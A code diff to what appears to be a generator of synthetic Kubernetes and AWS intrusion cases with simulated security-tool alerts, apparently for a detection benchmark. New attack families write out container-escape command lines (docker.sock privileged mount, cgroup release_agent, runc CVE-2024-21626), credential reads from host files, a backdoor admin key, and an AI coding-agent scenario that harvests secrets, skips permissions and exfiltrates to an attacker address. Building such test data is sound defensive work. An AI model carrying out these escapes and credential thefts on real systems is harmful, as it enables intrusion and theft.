@@ -209,6 +209,13 @@ class Case:
         hostu = user(r.choice(["registry-gc", "node-backup", "ecr-cleaner"]))
         hostu["keys"].append(("AKIA" + r.b32(16), self.T0 - r.uniform(20 * DAY, 400 * DAY)))
         self.ci_user, self.up_user, self.host_user = ci, up, hostu
+        self.backdoor_user = None
+        if r.random() < 0.6:
+            adm = user(r.choice(["admin-bot", "ops-automation", "terraform"]))
+            adm["keys"].append(("AKIA" + r.b32(16), self.T0 - r.uniform(20 * DAY, 400 * DAY)))
+            adm["admin"] = True
+            hostu["create_keys_for"] = adm["name"]
+            self.backdoor_user = adm["name"]
         # roles: node role (EC2), ci deploy role (trusts the CI user), a role
         # trusting a named session of the deploy role, a role trusting the node
         # role's sessions of one instance, one trusting every node session via a
@@ -473,7 +480,7 @@ class Case:
                 "meta": {"role": v["role"], "service_account_name": p["sa"],
                          "service_account_namespace": p["ns"], "service_account_secret_name": "",
                          "service_account_uid": self.sas[(p["ns"], p["sa"])]["uid"]},
-                "entity": self.sas[(p["ns"], p["sa"])]["uid"][::-1], "ttl": 3600}
+                "entity": self.sas[(p["ns"], p["sa"])].setdefault("entity", self.r.uuid()), "ttl": 3600}
 
     def vault_acc_at(self, p, t):
         return [a for (ti, a) in p["vlogins"] if ti <= t][-1]
@@ -675,13 +682,18 @@ class Case:
             if u["assume"]:
                 stmts.append({"Effect": "Allow", "Action": "sts:AssumeRole",
                               "Resource": [self.roles[x]["arn"] for x in u["assume"]]})
+            if u.get("create_keys_for"):
+                stmts.append({"Effect": "Allow", "Action": ["iam:CreateAccessKey", "iam:ListAccessKeys"],
+                              "Resource": self.users[u["create_keys_for"]]["arn"]})
             if u is self.ci_user:
                 stmts.append({"Effect": "Allow", "Action": ["secretsmanager:ListSecrets", "secretsmanager:GetSecretValue"],
                               "Resource": "*"})
             users.append({"Path": u["path"], "UserName": u["name"], "UserId": u["id"], "Arn": u["arn"],
                           "CreateDate": aws_date(self.S - 500 * DAY), "GroupList": [],
                           "UserPolicyList": [{"PolicyName": u["name"] + "-inline", "PolicyDocument": pol(*stmts)}],
-                          "AttachedManagedPolicies": [], "Tags": []})
+                          "AttachedManagedPolicies": [{"PolicyName": "AdministratorAccess",
+                                                       "PolicyArn": "arn:aws:iam::aws:policy/AdministratorAccess"}]
+                          if u.get("admin") else [], "Tags": []})
         roles = []
         for ro in self.roles.values():
             stmts = [{"Effect": "Allow", "Action": ["ec2:DescribeInstances", "ecr:GetAuthorizationToken",
@@ -1105,7 +1117,7 @@ class Case:
         self.node_cred(n, t, must=True)
         self.reach_extra.add(("k8s", "system:node:" + n["name"]))
         for p in n["pods"]:
-            if p["started"] > t or not p["tokens"]:
+            if not [1 for (ti, _) in p["tokens"] if ti <= t]:
                 continue
             self.jti_cred(p, self.jti_at(p, t), must=False)
             for s in (p.get("dep") or {}).get("secrets", []):
@@ -1114,6 +1126,7 @@ class Case:
                 self.vault_cred(p, self.vault_acc_at(p, t), must=False)
         if self.credmap is not None:
             self.aws_key_cred(self.host_file_key, must=True)
+            self.cred("github", self.gh_pat, "acme-ci-bot", True, ("github", "acme-ci-bot"))
         else:
             self.aws_key_cred(self.host_file_key, must=False)
 
@@ -1123,8 +1136,8 @@ class Case:
             return {("aws", a) for a in self.reach_aws(principal)}
         if kind == "k8s":
             return {("k8s", principal[1])}
-        if kind == "vault":
-            return {("vault", principal[1])}
+        if kind in ("vault", "github", "gcp", "anthropic"):
+            return {(kind, principal[1])}
         return set()
 
     def rbac_reach(self, sa_ident):
@@ -1150,6 +1163,17 @@ class Case:
                         out.add(("k8s", "system:serviceaccount:%s:%s" % (ns, sa)))
         return out
 
+    def user_of_arn(self, arn):
+        return [u for u in self.users.values() if u["arn"] == arn][0]
+
+    def vault_reach(self, ident):
+        """An SA's token logs in to Vault's kubernetes auth as the SA's role."""
+        out = set()
+        for p in self.pods:
+            if p["vault"] and "system:serviceaccount:%s:%s" % (p["ns"], p["sa"]) == ident:
+                out.add(("vault", self.vault_ident(p)["display"]))
+        return out
+
     def finish_truth(self):
         tr = self.truth
         reach_must, reach_may = set(self.reach_extra), set()
@@ -1159,16 +1183,26 @@ class Case:
         for (prov, cid), (ident, pr) in self.may.items():
             tr["credentials_may"].append({"provider": prov, "id": cid, "identity": ident})
             reach_may |= self.reach_of(pr)
-        for prov, ident in list(reach_must | reach_may):
-            if prov == "k8s":
+        for (prov, cid), (ident, pr) in list(self.must.items()) + list(self.may.items()):
+            if pr and pr[0] == "session" and pr[1] == self.node_role:
+                # EKS maps the node role's session to the node's Kubernetes identity
+                reach_may |= {("k8s", "system:node:" + n["name"]) for n in self.nodes if n["inst"] == pr[2]}
+        done = set()
+        while True:
+            todo = [x for x in (reach_must | reach_may) if x[0] == "k8s" and x not in done]
+            if not todo:
+                break
+            for prov, ident in todo:
+                done.add((prov, ident))
                 reach_may |= self.rbac_reach(ident)
-            if prov == "k8s" and ident.startswith("system:node:"):
-                n = [x for x in self.nodes if x["name"] == ident[len("system:node:"):]][0]
-                for p in n["pods"]:
-                    reach_may.add(("k8s", "system:serviceaccount:%s:%s" % (p["ns"], p["sa"])))
-                    for s in (p.get("dep") or {}).get("secrets", []):
-                        if s["holds"]:
-                            reach_may |= self.reach_of(("user", [u for u in self.users.values() if u["arn"] == s["holds"][2]][0]["name"]))
+                reach_may |= self.vault_reach(ident)
+                if ident.startswith("system:node:"):
+                    n = [x for x in self.nodes if x["name"] == ident[len("system:node:"):]][0]
+                    for p in n["pods"]:
+                        reach_may.add(("k8s", "system:serviceaccount:%s:%s" % (p["ns"], p["sa"])))
+                        for sc in (p.get("dep") or {}).get("secrets", []):
+                            if sc["holds"]:
+                                reach_may |= self.reach_of(("user", self.user_of_arn(sc["holds"][2])["name"]))
         reach_may -= reach_must
         tr["reachable"] = [{"provider": a, "identity": b} for a, b in sorted(reach_must)]
         tr["reachable_may"] = [{"provider": a, "identity": b} for a, b in sorted(reach_may)]
@@ -1471,6 +1505,293 @@ class Case:
             self.vault(p, tv + 25, "auth/token/lookup-self", "read", src, child, mount_type="token")
             self.vault_cred(p, child, True)
 
+    def fam_s4(self):
+        """S4: CI job with the node's docker.sock -> privileged sibling with / -> host files."""
+        self.need("tetragon", "falco", "tracee")
+        r = self.r
+        t = self.T0
+        p, job = self.ci_job(t - r.uniform(600, 3600), build=False)
+        self.root(p)
+        n = p["node"]
+        body = '{"Image":"alpine","HostConfig":{"Privileged":true,"Binds":["/:/host"]}}'
+        sib = r.hexs(64)
+        for i, url in enumerate(("http://localhost/v1.43/containers/create", "http://localhost/v1.43/containers/%s/start" % sib[:12])):
+            c = self.run(job, "/usr/bin/curl", "--unix-socket /var/run/docker.sock -XPOST %s%s" % (
+                url, " -H 'Content-Type: application/json' -d '%s'" % body if i == 0 else ""), t + i * 1.2)
+            self.unix_connect(c, c.start + 0.02, "/var/run/docker.sock")
+        shim = Proc(n["name"], self.pid(n["name"]), "/usr/bin/containerd-shim-runc-v2",
+                    "-namespace moby -id %s -address /run/containerd/containerd.sock" % sib, t + 2.6)
+        bsh = self.exec_(Proc(n["name"], self.pid(n["name"]), "/bin/sh", "", t + 3.0, docker=sib, parent=shim, ns_pid=1))
+        if self.has("falco"):
+            falco(self.o, t + 3.01, "Launch Privileged Container", "Informational",
+                  ["T1610", "container", "cis", "maturity_incubating", "mitre_execution"], bsh,
+                  "Privileged container started", {"evt.type": "container", "container.privileged": True,
+                                                   "container.mounts": "/:/host::true:rprivate"})
+        th = t + r.uniform(10, 60)
+        c1 = self.run(bsh, "/bin/cat", "/host/root/.aws/credentials", th)
+        self.file_read(c1, th, "/host/root/.aws/credentials", watch_key="aws_creds",
+                       falco_rule=("Container Access to Host Sensitive Paths", "Warning",
+                                   ["T1552.001", "container", "filesystem", "maturity_sandbox", "mitre_credential_access"],
+                                   "Sensitive host file opened for reading by container process"))
+        ch = self.run(bsh, "/usr/sbin/chroot", "/host sh -c 'cat /root/.docker/config.json /var/lib/kubelet/config.json'", th + 2)
+        c2 = self.run(ch, "/usr/bin/cat", "/root/.docker/config.json /var/lib/kubelet/config.json", th + 2.05)
+        for path, key in (("/root/.docker/config.json", "docker_creds"), ("/var/lib/kubelet/config.json", "kubelet_cfg")):
+            self.file_read(c2, th + 2.06, path, watch_key=key)
+        self.escape_node(n, th, p)
+        src = self.attacker_src(bsh, th + r.uniform(3, 20))
+        tu = th + r.uniform(300, 900)
+        if self.credmap is None or r.random() < 0.8:
+            hu = self.host_user
+            ident = self.user_ident(hu, self.host_file_key)
+            self.aws_recon(tu, ident, src, self.att_ua)
+            self.aws_key_cred(self.host_file_key, True)
+            if self.backdoor_user:
+                nk = "AKIA" + r.b32(16)
+                bu = self.users[self.backdoor_user]
+                self.ctx(tu + 160, ident, "iam", "CreateAccessKey", src, self.att_ua, req={"userName": bu["name"]},
+                         resp={"accessKey": {"userName": bu["name"], "accessKeyId": nk, "status": "Active",
+                                             "createDate": ct_date(tu + 160)}}, readonly=False)
+                self.ctx(tu + 200, self.user_ident(bu, nk), "sts", "GetCallerIdentity", src, self.att_ua)
+                self.ctx(tu + 210, self.user_ident(bu, nk), "iam", "ListRoles", src, self.att_ua)
+                self.cred("aws", nk, bu["arn"], True, ("user", bu["name"]))
+
+    def fam_s5(self):
+        """S5: release_agent (CVE-2022-0492): kernel runs the payload on the host."""
+        self.need("tetragon", "falco", "tracee")
+        r = self.r
+        p = self.victim()
+        self.root(p)
+        n = p["node"]
+        t = self.T0
+        snap = r.randint(100, 9999)
+        upper = "/var/lib/containerd/io.containerd.snapshotter.v1.overlayfs/snapshots/%d/fs" % snap
+        sh = self.shell_rce(p["app"], t, "-c 'unshare -UrmC bash'")
+        un = self.run(sh, "/usr/bin/unshare", "-UrmC bash", t + 0.3)
+        if self.has("tetragon"):
+            tg_kprobe(self.o, t + 0.31, un, "__x64_sys_unshare", [{"int_arg": 0x12020000}], policy="namespace-access")
+        if self.has("falco"):
+            falco(self.o, t + 0.311, "Change namespace privileges via unshare", "Notice",
+                  ["T1611", "container", "maturity_incubating", "mitre_privilege_escalation"], un,
+                  "Change namespace privileges via unshare", {"evt.type": "unshare", "evt.res": "SUCCESS"})
+        if self.has("auditd"):
+            audit(self.o, t + 0.312, n["name"], "unshare", un, "unshare")
+        b = self.run(un, "/usr/bin/bash", "", t + 0.35)
+        m = self.run(b, "/usr/bin/mount", "-t cgroup -o rdma cgroup /tmp/cgrp", t + 2)
+        if self.has("auditd"):
+            audit(self.o, t + 2.01, n["name"], "mount", m, "mount", paths=[("/tmp/cgrp", 81234, "040755")])
+        w = self.run(b, "/bin/sh", "-c 'echo %s/cmd > /tmp/cgrp/release_agent'" % upper, t + 4)
+        self.file_read(w, t + 4.01, "/tmp/cgrp/release_agent", write=True,
+                       tracee_sig=("cgroup_release_agent",
+                                   trc("TRC-1010", "Cgroups release agent file modification",
+                                       "An attempt to modify Cgroup release agent file was detected.", 3,
+                                       "T1611", "Escape to Host", "Privilege Escalation")),
+                       falco_rule=("Detect release_agent File Container Escapes", "Critical",
+                                   ["T1611", "container", "maturity_stable", "mitre_privilege_escalation"],
+                                   "Detect an attempt to exploit a container escape using release_agent file"))
+        # the kernel runs the payload on the host (parent kthreadd, pid 2)
+        kthreadd = Proc(n["name"], 2, "[kthreadd]", "", n["created"])
+        th = t + 6
+        pay = Proc(n["name"], self.pid(n["name"]), upper + "/cmd", "", th, parent=kthreadd)
+        if self.has("tetragon"):
+            tg_exec(self.o, pay)
+        if self.has("auditd"):
+            audit(self.o, th + 0.001, n["name"], "execve", pay, "umh_exec",
+                  paths=[(upper + "/cmd", 991234, "0100755")])
+        if self.has("tracee"):
+            tracee(self.o, th + 0.002, pay, "sched_process_exec", [{"name": "pathname", "str": pay.binary}], syscall="execve")
+        hsh = self.run(pay, "/bin/sh", "%s/cmd" % upper, th + 0.01, cwd="/")
+        self.host_harvest(hsh, n, th + r.uniform(1, 5), p)
+
+    def fam_s6(self):
+        """S6: runc CVE-2024-21626: a pod with workingDir /proc/self/fd/N reads host files."""
+        self.need("tetragon", "auditd")
+        r = self.r
+        p = self.victim()
+        p["dep"]["rbac_pods"] = True
+        sh, jti, src, ta = self.fam_s2(p)
+        n = r.choice(self.nodes)
+        t = ta + r.uniform(60, 300)
+        name = "%s-migrate-%s" % (p["dep"]["name"], r.k8s(5))
+        wd = "/proc/self/fd/%d" % r.randint(7, 9)
+        ap = self.new_pod(n, p["ns"], name, p["sa"], p["image"], "migrate", {"job-name": name}, name, "Pod",
+                          t + 5, "/bin/sh", "-c 'cat ../../../../root/.aws/credentials'")
+        ap["cextra"] = {"workingDir": wd}
+        self.stolen_call(p, self.T0, t, "create", "/api/v1/namespaces/%s/pods" % p["ns"],
+                         {"resource": "pods", "namespace": p["ns"], "name": name, "apiVersion": "v1"}, src, 201,
+                         reqobj=self.pod_obj(ap, with_status=False),
+                         respobj={"kind": "Pod", "metadata": {"name": name, "namespace": p["ns"], "uid": ap["uid"]}})
+        runc = Proc(n["name"], self.pid(n["name"]), "/usr/bin/runc", "--root /run/containerd/runc/k8s.io create", t + 4.8)
+        if self.has("tetragon"):
+            tg_kprobe(self.o, t + 4.85, runc, "sys_chdir", [{"string_arg": wd}], policy="cve-2024-21626-runc",
+                      extra={"message": "Possible exploit of runc cve-2024-21626 vulnerability"})
+        c = ap["app"]
+        c.cwd = "/sys/fs/cgroup"
+        self.exec_(c)
+        cat = self.run(c, "/bin/cat", "../../../../root/.aws/credentials ../../../../var/lib/kubelet/pki/kubelet-client-current.pem", t + 5.2)
+        for path, key in (("../../../../root/.aws/credentials", "aws_creds"),
+                          ("../../../../var/lib/kubelet/pki/kubelet-client-current.pem", "kubelet_pki")):
+            self.file_read(cat, t + 5.21, path, real_path="/" + path.replace("../", ""), watch_key=key)
+        self.escape_node(n, t + 5, p)
+        tu = t + r.uniform(300, 900)
+        self.aws_recon(tu, self.user_ident(self.host_user, self.host_file_key), src, self.att_ua)
+        for i in range(3):
+            self.ctx(tu + 160 + i * 7, self.user_ident(self.host_user, self.host_file_key), "secretsmanager",
+                     "GetSecretValue", src, self.att_ua, req={"secretId": "prod/%s" % r.choice(["db", "api", "stripe", "ci"])})
+        self.aws_key_cred(self.host_file_key, True)
+
+    def fam_s8(self):
+        """S8: AI coding-agent sandbox: env and file credential harvest, exfil, use."""
+        self.need("tetragon", "falco")
+        r = self.r
+        n = r.choice(self.nodes)
+        dev = self.users.setdefault("dev-sandbox", {"name": "dev-sandbox", "arn": "arn:aws:iam::%s:user/sandbox/dev-sandbox" % self.acct,
+                                                    "id": "AIDA" + r.b32(17), "path": "/sandbox/", "keys": [("AKIA" + r.b32(16), self.S - 30 * DAY)],
+                                                    "assume": [], "policies": []})
+        s_aws = self.add_secret("agents", "agent-aws", ["access-key-id", "secret-access-key"], "aws",
+                                ("aws", dev["keys"][0][0], dev["arn"]))
+        s_gh = self.add_secret("agents", "agent-github", ["token"], "github", None)
+        s_llm = self.add_secret("agents", "agent-llm", ["key"], "anthropic", None)
+        d = {"ns": "agents", "name": "agent-runner", "sa": "agent-runner", "image": "ghcr.io/acme/agent-runner:0.9.4",
+             "rs": r.k8s(10), "replicas": 1, "pods": [], "secrets": [s_aws, s_gh, s_llm],
+             "env_secrets": [("AWS_ACCESS_KEY_ID", s_aws, "access-key-id"), ("AWS_SECRET_ACCESS_KEY", s_aws, "secret-access-key"),
+                             ("GITHUB_TOKEN", s_gh, "token"), ("ANTHROPIC_API_KEY", s_llm, "key")],
+             "envfrom": [], "vault": None, "ua": None}
+        self.sas[("agents", "agent-runner")] = {"uid": r.uuid()}
+        self.deps.append(d)
+        name = "agent-runner-%s-%s" % (d["rs"], r.k8s(5))
+        p = self.new_pod(n, "agents", name, "agent-runner", d["image"], "agent", {"app": "agent-runner", "pod-template-hash": d["rs"]},
+                         "agent-runner", "Deployment", self.S - r.uniform(HOUR, 5 * DAY), "/usr/bin/node", "/opt/agent/runner.js",
+                         hostpaths=["/srv/agents/.aws"])
+        p["dep"] = d
+        d["pods"].append(p)
+        self.root(p)
+        gh_id, llm_id = "pat-%d" % r.randint(10000, 99999), "apikey-" + r.b32(10)
+        if self.credmap is not None:
+            self.credmap.append(("env:agents/%s:GITHUB_TOKEN" % name, "github", gh_id, "acme-agent-bot"))
+            self.credmap.append(("env:agents/%s:ANTHROPIC_API_KEY" % name, "anthropic", llm_id, "acme-agents"))
+            self.credmap.append(("file:*:/srv/agents/.aws/credentials", "aws", dev["keys"][0][0], dev["arn"]))
+        t = self.T0
+        tel = self.run(p["app"], "/usr/bin/node", "node_modules/nx/src/telemetry.js", t)
+        sh = self.run(tel, "/bin/sh", "-c 'env; cat /proc/1/environ'", t + 0.5)
+        self.run(sh, "/usr/bin/env", "", t + 0.51)
+        c = self.run(sh, "/bin/cat", "/proc/1/environ", t + 0.52)
+        self.file_read(c, t + 0.53, "/proc/1/environ",
+                       falco_rule=("Read environment variable from /proc files", "Warning",
+                                   ["T1083", "container", "filesystem", "maturity_incubating", "mitre_discovery", "process"],
+                                   "Environment variables were retrieved from /proc files"))
+        f = self.run(sh, "/usr/bin/find", "/ -path */.aws/credentials", t + 2)
+        if self.has("falco"):
+            falco(self.o, t + 2.01, "Find AWS Credentials", "Warning",
+                  ["T1552", "container", "maturity_stable", "mitre_credential_access", "process"], f,
+                  "Find AWS Credentials", {"evt.type": "execve"})
+        c2 = self.run(sh, "/bin/cat", "/srv/agents/.aws/credentials", t + 4)
+        self.file_read(c2, t + 4.01, "/srv/agents/.aws/credentials", watch_key="agent_aws_creds")
+        self.run(tel, "/usr/local/bin/claude", "--dangerously-skip-permissions -p 'You are a file-search agent'", t + 6)
+        self.run(sh, "/usr/bin/trufflehog", "filesystem /", t + 9)
+        src = self.att_ip
+        ex = self.run(tel, "/usr/bin/node", "-e fetch('https://%s/x')" % src, t + 15)
+        self.connect(ex, t + 15, p["ip"], src, 443)
+        key = dev["keys"][0][0]
+        ident = self.user_ident(dev, key)
+        tu = t + r.uniform(120, 900)
+        ua = "TruffleHog aws-sdk-go/1.55.5 (go1.22.5; linux; amd64)"
+        self.ctx(tu, ident, "sts", "GetCallerIdentity", src, ua)
+        for i, reg in enumerate(r.sample(REGIONS, 4)):
+            self.ctx(tu + 20 + i * 9, ident, "secretsmanager", "ListSecrets", src, self.att_ua, region=reg,
+                     err="AccessDeniedException" if i == 3 else None)
+            self.ctx(tu + 24 + i * 9, ident, "secretsmanager", "GetSecretValue", src, self.att_ua, region=reg,
+                     req={"secretId": "dev/%s" % r.choice(["npm", "pypi", "db", "openai"])})
+        self.cred("aws", key, dev["arn"], True, ("user", "dev-sandbox"))
+        self.secret_exposed(s_aws, used=True)
+        if self.credmap is not None:
+            self.cred("github", gh_id, "acme-agent-bot", True, ("github", "acme-agent-bot"))
+            self.cred("anthropic", llm_id, "acme-agents", True, ("anthropic", "acme-agents"))
+
+    def fam_s9(self):
+        """S9: kubelet credentials via hostPath /var/lib/kubelet -> node impersonation."""
+        self.need("tetragon", "tracee", "falco")
+        r = self.r
+        n = r.choice(self.nodes)
+        rs = r.k8s(10)
+        name = "log-shipper-%s-%s" % (rs, r.k8s(5))
+        self.sas[("logging", "log-shipper")] = {"uid": r.uuid()}
+        t0 = self.T0 - r.uniform(HOUR, min(self.H, 5 * DAY) * 0.9)
+        p = self.new_pod(n, "logging", name, "log-shipper", "fluent/fluent-bit:3.0.7", "shipper",
+                         {"app": "log-shipper", "pod-template-hash": rs}, "log-shipper", "Deployment", t0,
+                         "/fluent-bit/bin/fluent-bit", "-c /fluent-bit/etc/fluent-bit.conf",
+                         hostpaths=["/var/lib/kubelet", "/var/log"])
+        k8s(self.o, t0 - 0.5, self.eid(), "system:serviceaccount:kube-system:replicaset-controller", "create",
+            "/api/v1/namespaces/logging/pods", {"resource": "pods", "namespace": "logging", "name": name, "apiVersion": "v1"},
+            "10.%d.0.10" % self.vpc, "kube-controller-manager/v1.30.2 (linux/amd64) kubernetes/2a9b0e4/system:serviceaccount:kube-system:replicaset-controller",
+            201, reqobj=self.pod_obj(p, with_status=False),
+            respobj={"kind": "Pod", "metadata": {"name": name, "namespace": "logging", "uid": p["uid"]}})
+        self.exec_(p["app"])
+        if self.has("falco"):
+            falco(self.o, t0 + 0.5, "Launch Sensitive Mount Container", "Informational",
+                  ["T1610", "container", "cis", "maturity_sandbox", "mitre_execution"], p["app"],
+                  "Container with sensitive mount started",
+                  {"evt.type": "container", "container.mounts": "/var/lib/kubelet:/var/lib/kubelet::false:rprivate"})
+        self.root(p)
+        t = self.T0
+        sh = self.shell_rce(p["app"], t, "-c 'cat /var/lib/kubelet/kubeconfig'")
+        c = self.run(sh, "/bin/cat", "/var/lib/kubelet/kubeconfig /var/lib/kubelet/pki/kubelet-client-current.pem", t + 0.2)
+        for path, key in (("/var/lib/kubelet/kubeconfig", "kubelet_cfg"), ("/var/lib/kubelet/pki/kubelet-client-current.pem", "kubelet_pki")):
+            self.file_read(c, t + 0.21, path, watch_key=key,
+                           tracee_sig=("kubernetes_certificate_theft_attempt",
+                                       trc("TRC-1018", "K8s cert theft attempt detected",
+                                           "An attempt to steal Kubernetes certificates was detected.", 3,
+                                           "T1552.004", "Private Keys", "Credential Access")))
+        self.imds_fetch(sh, t + r.uniform(2, 10), p["ip"])
+        key = self.node_cred(n, t, True)
+        self.reach_extra.add(("k8s", "system:node:" + n["name"]))
+        src = self.attacker_src(sh, t + 15)
+        tk = t + r.uniform(60, 600)
+        ua = self.att_kubectl
+        ident_extra = {"accessKeyId": [key], "arn": [n["session_arn"]], "canonicalArn": [self.node_role_arn],
+                       "principalId": ["%s:%s" % (self.node_role_id, n["inst"])], "sessionName": [n["inst"]]}
+        nu = "system:node:" + n["name"]
+        grp = ["system:nodes", "system:authenticated"]
+        returned = []
+        for q in n["pods"]:
+            for sc in (q.get("dep") or {}).get("secrets", [])[:2]:
+                k8s(self.o, tk, self.eid(), nu, "get", "/api/v1/namespaces/%s/secrets/%s" % (sc["ns"], sc["name"]),
+                    {"resource": "secrets", "namespace": sc["ns"], "name": sc["name"], "apiVersion": "v1"}, src, ua, 200,
+                    extra=ident_extra, groups=grp)
+                returned.append(sc)
+                tk += r.uniform(1, 4)
+        for sc in [x for x in self.secrets.values() if x not in returned][:4]:
+            k8s(self.o, tk, self.eid(), nu, "get", "/api/v1/namespaces/%s/secrets/%s" % (sc["ns"], sc["name"]),
+                {"resource": "secrets", "namespace": sc["ns"], "name": sc["name"], "apiVersion": "v1"}, src, ua, 403,
+                extra=ident_extra, groups=grp)
+            tk += r.uniform(1, 4)
+        k8s(self.o, tk + 3, self.eid(), nu, "create", "/apis/certificates.k8s.io/v1/certificatesigningrequests",
+            {"resource": "certificatesigningrequests", "apiGroup": "certificates.k8s.io", "apiVersion": "v1"}, src, ua, 201,
+            extra=ident_extra, groups=grp)
+        k8s(self.o, tk + 6, self.eid(), nu, "get", "/api/v1/nodes/%s/proxy/pods" % n["name"],
+            {"resource": "nodes", "subresource": "proxy", "name": n["name"], "apiVersion": "v1"}, src, ua, 403,
+            extra=ident_extra, groups=grp)
+        self.aws_recon(tk + 30, self.node_ident(n, t), src, self.att_ua)
+        self.use_exposed_secrets(returned, tk + 400, src)
+
+    def fam_s10(self):
+        """S10: chained: token theft -> privileged pod -> host harvest (incl. the
+        Vault agent sink of the root pod) -> node role, AKIA, Vault from the node."""
+        r = self.r
+        cands = [q for q in self.pods if q.get("dep") and q["vault"] and q["started"] < self.T0 - 60]
+        p = r.choice(cands)
+        p["dep"]["rbac_pods"] = True
+        sh, jti, src, ta = self.fam_s2(p)
+        self.need("tetragon", "falco", "auditd")
+        ap = self.priv_pod_escape(p, ta + r.uniform(60, 300), src)
+        n = ap["node"]
+        if p["node"] is n:
+            tv = ta + r.uniform(400, 900)
+            acc = self.vault_acc_at(p, tv)
+            self.vault(p, tv, "auth/token/lookup-self", "read", n["ip"], acc, mount_type="token")
+            self.vault(p, tv + 4, "sys/mounts", "read", n["ip"], acc, mount_type="system", err=PERM_DENIED)
+            self.vault(p, tv + 8, p["vault"]["kv"] + "/config", "read", n["ip"], acc, data_keys=["password"])
+            self.vault_cred(p, acc, True)
+
     def use_exposed_secrets(self, secrets, t, src):
         """Secrets whose content the attacker saw: a key nothing maps must be
         used (the only way to learn it); a mapped one is used 1 in 2."""
@@ -1486,7 +1807,7 @@ class Case:
             self.secret_exposed(s, used=use)
 
     # ---- the case ---------------------------------------------------------------------
-    FAMILIES = ["S1", "S2", "S3", "S7"]
+    FAMILIES = ["S1", "S2", "S3", "S4", "S5", "S6", "S7", "S8", "S9", "S10"]
 
     def generate(self, outdir):
         r = self.r
